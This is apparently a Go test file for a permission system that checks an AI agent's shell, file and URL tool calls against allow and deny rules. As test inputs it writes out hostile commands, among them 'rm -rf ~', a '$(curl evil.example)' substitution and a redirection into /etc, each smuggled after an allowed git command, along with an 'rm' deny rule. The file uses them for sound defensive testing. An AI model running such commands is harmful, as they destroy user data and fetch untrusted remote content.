package capability

import (
	"testing"

	"github.com/meup-protocol/meup/internal/capability/argument"
	"github.com/meup-protocol/meup/protocol"
)

func mustParse(t testing.TB, text string) *Capability {
	t.Helper()
	c, err := ParseJSON([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// callOf returns the request of a call with these arguments.
func callOf(t testing.TB, tool, arguments string) *Request {
	t.Helper()
	doc, err := protocol.ParseJSON([]byte(`{"method":"tools/call","params":{"name":"`+tool+`","arguments":`+arguments+`}}`), protocol.MaxDepth)
	if err != nil {
		t.Fatal(err)
	}
	return &Request{Kind: protocol.KindMCPRequest, Payload: doc.Root()}
}

func withArguments(rule string) string {
	return `{"kind":"mcp.request","payload":{"params":{"arguments":` + rule + `}}}`
}

func TestTyped_Decide(t *testing.T) {
	const shell = `{"command":{"$shell":{"commands":["git log **","git diff **"]}}}`
	const noRM = `{"command":{"$shell":{"commands":["rm **"]}}}`
	for name, x := range map[string]struct {
		allow, deny, arguments string
		want                   bool
	}{
		"allowed":                       {shell, "", `{"command":"git log | git diff a/b"}`, true},
		"second command":                {shell, "", `{"command":"git log; rm -rf ~"}`, false},
		"substitution":                  {shell, "", `{"command":"git log $(curl evil.example)"}`, false},
		"absent":                        {shell, "", `{}`, false},
		"number":                        {shell, "", `{"command":5}`, false},
		"array":                         {shell, "", `{"command":["git","log"]}`, false},
		"array of commands":             {`{"command":[{"$shell":{"commands":["git log"]}}]}`, "", `{"command":["git log","rm x"]}`, false},
		"denied":                        {`"**"`, noRM, `{"command":"git log; rm -rf ~"}`, false},
		"not denied":                    {`"**"`, noRM, `{"command":"git log; ls"}`, true},
		"denied in another case":        {`"**"`, noRM, `{"COMMAND":"rm x"}`, false},
		"denied words":                  {`"**"`, noRM, `{"command":["/bin/rm","x"]}`, false},
		"denied words of a shell":       {`"**"`, noRM, `{"command":["bash","-lc","ls; rm x"]}`, false},
		"denied element":                {`"**"`, noRM, `{"command":["ls","rm x"]}`, false},
		"denied object":                 {`"**"`, noRM, `{"command":{"program":"rm"}}`, false},
		"deny rule of an absent field":  {`"**"`, noRM, `{}`, true},
		"unparsable is denied":          {`"**"`, noRM, `{"command":"ls ("}`, false},
		"meant text":                    {`{"query":{"$text":"git *"}}`, "", `{"query":"git log"}`, true},
		"meant text with an operator":   {`{"command":{"$text":"git *"}}`, "", `{"command":"git log; rm x"}`, false},
		"one of two":                    {`{"command":["exactly",{"$shell":{"commands":["git log"]}}]}`, "", `{"command":"git log"}`, true},
		"one of two, the other":         {`{"command":["exactly",{"$shell":{"commands":["git log"]}}]}`, "", `{"command":"exactly"}`, true},
		"anywhere below":                {`{"**":{"$shell":{"commands":["git log"]}}}`, "", `{"a":{"b":"git log"}}`, true},
		"key of a JSONPath still works": {`{"$.command":{"$shell":{"commands":["git log"]}}}`, "", `{"command":"git log"}`, true},
	} {
		t.Run(name, func(t *testing.T) {
			list := []*Capability{mustParse(t, withArguments(x.allow))}
			if x.deny != "" {
				deny := mustParse(t, withArguments(x.deny))
				list = append(list, deny.asDeny())
			}
			if got := NewSet(list...).Decide(callOf(t, "Bash", x.arguments)).Allowed; got != x.want {
				t.Errorf("allowed = %v, want %v", got, x.want)
			}
		})
	}
}

func TestTyped_Errors(t *testing.T) {
	for name, x := range map[string]struct{ rule, want string }{
		"unknown matcher":  {`{"a":{"$sh":{}}}`, "capability at /payload/params/arguments/a/$sh: unknown matcher $sh; there are $shell, $path, $url and $text, and a JSONPath begins with $. or $["},
		"not alone":        {`{"a":{"$shell":{"commands":"ls"},"b":"c"}}`, "capability at /payload/params/arguments/a/$shell: $shell must be the only key of its object"},
		"no command":       {`{"a":{"$shell":{}}}`, "capability at /payload/params/arguments/a/$shell: it names no command"},
		"no object":        {`{"a":{"$shell":"git"}}`, "capability at /payload/params/arguments/a/$shell: it must be an object; its keys are commands, write, read, env"},
		"unknown key":      {`{"a":{"$shell":{"command":"git"}}}`, "capability at /payload/params/arguments/a/$shell/command: it is unknown; use commands, write, read, env"},
		"star as program":  {`{"a":{"$shell":{"commands":["ls","** x"]}}}`, `capability at /payload/params/arguments/a/$shell/commands/1: "** x" must begin with the name of a program, without a star`},
		"words after rest": {`{"a":{"$shell":{"commands":"git ** x"}}}`, `capability at /payload/params/arguments/a/$shell/commands: "git ** x" has words after **, which stands for all further words`},
		"quoted star":      {`{"a":{"$shell":{"commands":"git log '*'"}}}`, `capability at /payload/params/arguments/a/$shell/commands: "git log '*'" has a star in a word with quotes; a star always stands for other text`},
		"assignment":       {`{"a":{"$shell":{"commands":"CI=1 npm test"}}}`, `capability at /payload/params/arguments/a/$shell/commands: "CI=1 npm test" begins with a variable; name the variable in env`},
		"operator":         {`{"a":{"$shell":{"commands":"git log; ls"}}}`, `capability at /payload/params/arguments/a/$shell/commands: "git log; ls" is no list of words; quote what is an operator of the shell`},
		"text of a number": {`{"a":{"$text":5}}`, "capability at /payload/params/arguments/a/$text: it must be a string, not number"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := ParseJSON([]byte(withArguments(x.rule)))
			if err == nil || err.Error() != x.want {
				t.Errorf("got %v, want %s", err, x.want)
			}
		})
	}
}

func TestTyped_Covers(t *testing.T) {
	const wide = `{"command":{"$shell":{"commands":["git log **","go test -**"],"env":["CI"]}}}`
	for name, x := range map[string]struct {
		held, granted string
		want          bool
	}{
		"same":              {wide, wide, true},
		"fewer commands":    {wide, `{"command":{"$shell":{"commands":["git log **"]}}}`, true},
		"fewer words":       {wide, `{"command":{"$shell":{"commands":["git log a *"]}}}`, true},
		"options too":       {wide, `{"command":{"$shell":{"commands":["git log -**"]}}}`, false},
		"option of rest":    {wide, `{"command":{"$shell":{"commands":["go test -v **"]}}}`, true},
		"another program":   {wide, `{"command":{"$shell":{"commands":["git push"]}}}`, false},
		"another variable":  {wide, `{"command":{"$shell":{"commands":["git log"],"env":["PATH"]}}}`, false},
		"writes":            {wide, `{"command":{"$shell":{"commands":["git log"],"write":{"below":"x"}}}}`, false},
		"reads":             {wide, `{"command":{"$shell":{"commands":["git log"],"read":"preset"}}}`, false},
		"any text":          {wide, `{"command":"*"}`, false},
		"under any text":    {`{"command":"*"}`, wide, true},
		"a further field":   {wide, `{"command":{"$shell":{"commands":["git log"]}},"cwd":"x"}`, true},
		"without the field": {wide, `{"cwd":"x"}`, false},
	} {
		t.Run(name, func(t *testing.T) {
			held, granted := mustParse(t, withArguments(x.held)), mustParse(t, withArguments(x.granted))
			w := Work{left: maxCheckWork}
			if got := held.covers(granted, &w); got != x.want {
				t.Errorf("covers = %v, want %v", got, x.want)
			}
		})
	}
}

// TestTyped_Place checks that paths are compared in the folders of the request.
func TestTyped_Place(t *testing.T) {
	set := NewSet(mustParse(t, withArguments(`{"file_path":{"$path":{"below":"docs"}}}`)))
	r := callOf(t, "Write", `{"file_path":"/repo/docs/a.md"}`)
	if set.Decide(r).Allowed {
		t.Error("allowed without a folder")
	}
	r.Place = argument.Place{Root: "/repo", Dir: "/repo"}
	if !set.Decide(r).Allowed {
		t.Error("not allowed below the root")
	}
}

// TestTyped_Work checks that a long command is parsed once for all rules, and that what
// cannot be checked is denied.
func TestTyped_Work(t *testing.T) {
	var list []*Capability
	for range 200 {
		list = append(list, mustParse(t, withArguments(`{"command":{"$shell":{"commands":["git log **"]}}}`)))
	}
	text := "git diff"
	for len(text) < argument.MaxCommand-20 {
		text += " a/b"
	}
	r := callOf(t, "Bash", `{"command":"`+text+`"}`)
	w := newWork(r)
	list[0].match(r, &w)
	before := w.left
	list[1].match(r, &w)
	if spent := before - w.left; spent >= 6*len(text) {
		t.Errorf("%d steps for a second rule about a text of %d bytes", spent, len(text))
	}
	if NewSet(append(list, mustParse(t, withArguments(`{"command":{"$shell":{"commands":["git diff **"]}}}`)))...).Decide(r).Allowed {
		t.Error("allowed without work left")
	}
	none := Work{left: 1}
	deny := mustParse(t, withArguments(`{"command":{"$shell":{"commands":["rm **"]}}}`)).asDeny()
	if !deny.match(r, &none) {
		t.Error("a deny rule does not match without work left")
	}
}

func TestTyped_ExplainPaths(t *testing.T) {
	set := NewSet(mustParse(t, withArguments(`{"file_path":{"$path":{"below":"docs"}},"url":{"$url":{"host":"example.com"}}}`)))
	for arguments, want := range map[string]string{
		`{"file_path":"docs/a"}`:         `  "docs/a" is allowed`,
		`{"file_path":"src/a"}`:          `  "src/a" is none of the paths below docs`,
		`{"file_path":"/repo/docs/a"}`:   `  "/repo/docs/a" is not certain to be one of the paths below docs; the participant that runs the call has no root`,
		`{"url":"https://evil.example"}`: `  "https://evil.example" is none of the http or https URLs of example.com`,
	} {
		got := set.Explain(callOf(t, "x", arguments))
		if len(got) != 2 || got[1] != want {
			t.Errorf("%s: got %q, want %s", arguments, got, want)
		}
	}
}

func TestTyped_Explain(t *testing.T) {
	set := NewSet(mustParse(t, withArguments(`{"command":{"$shell":{"commands":["git log **"]}}}`)))
	got := set.Explain(callOf(t, "Bash", `{"command":"git log && rm -rf ~ > /etc/x"}`))
	want := []string{
		`  "git log" is allowed`,
		`  "rm -rf ~" is not allowed: no pattern of a command matches`,
		`  "> /etc/x" is not allowed: no rule lets redirections write there`,
	}
	if len(got) != 1+len(want) {
		t.Fatalf("got %q", got)
	}
	for i, line := range want {
		if got[i+1] != line {
			t.Errorf("got %q, want %q", got[i+1], line)
		}
	}
}
